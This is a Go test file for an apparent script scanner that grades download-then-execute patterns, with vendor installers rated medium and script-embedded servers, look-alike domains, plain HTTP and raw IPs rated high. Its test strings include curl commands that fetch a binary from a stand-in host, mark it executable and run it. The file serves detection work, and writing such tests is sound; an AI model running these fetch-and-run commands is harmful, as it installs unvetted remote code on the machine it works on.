package shell

import (
	"testing"

	"github.com/vigilsec/vigil/report"
)

// A download that is then run is a backdoor's shape when the server is
// written into the script; an installer for the vendor's own software, or
// a helper that runs what its caller passes, is not.
func TestDownloadExecSource(t *testing.T) {
	for _, tc := range []struct {
		name, script string
		level        report.Level
	}{
		{"vendor https", "$url = 'https://dl.google.com/chrome.msi'\n$wc = New-Object net.webclient\n$m = \"$env:temp\\c.msi\"\n$wc.Downloadfile($url, $m)\nStart-Process $m\n", report.Medium},
		{"caller's url", "$url = $args[0]\n$wc = New-Object net.webclient\n$m = \"$env:temp\\c.msi\"\n$wc.Downloadfile($url, $m)\nStart-Process $m\n", report.Medium},
		{"own server", "curl -sSLo /tmp/x https://cdn.tool.example/x\nchmod +x /tmp/x\n/tmp/x\n", report.High},
		{"vendor look-alike", "curl -sSLo /tmp/x https://dl.google.com.cdn.example/x\nchmod +x /tmp/x\n", report.High},
		{"vendor over http", "curl -sSLo /tmp/x http://dl.google.com/x\nchmod +x /tmp/x\n", report.High},
		{"vendor and raw ip", "U=https://dl.google.com/a\ncurl -sSLo /tmp/x http://198.51.100.7/x\nchmod +x /tmp/x\n", report.High},
	} {
		level := report.None
		for _, f := range Inspect([]byte(tc.script)) {
			if f.Rule == RuleDownloadExec && f.Level > level {
				level = f.Level
			}
		}
		if level != tc.level {
			t.Errorf("%s: download-exec at %s, want %s", tc.name, level, tc.level)
		}
	}
}
